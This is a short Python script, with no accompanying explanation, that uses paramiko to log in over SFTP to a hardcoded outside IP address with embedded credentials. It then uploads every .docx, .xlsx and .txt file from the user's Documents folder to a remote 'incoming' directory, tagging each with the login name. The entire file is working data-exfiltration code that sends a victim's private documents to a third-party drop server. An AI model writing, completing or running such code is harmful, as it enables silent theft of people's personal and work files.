import os
import paramiko

transport = paramiko.Transport(("137.184.9.201", 22))
transport.connect(username="drop", password="drop2024!")
sftp = paramiko.SFTPClient.from_transport(transport)

docs = os.path.expanduser("~/Documents")
for fname in os.listdir(docs):
    full = os.path.join(docs, fname)
    if os.path.isfile(full) and fname.lower().endswith((".docx", ".xlsx", ".txt")):
        sftp.put(full, f"/incoming/{os.getlogin()}_{fname}")

sftp.close()
transport.close()
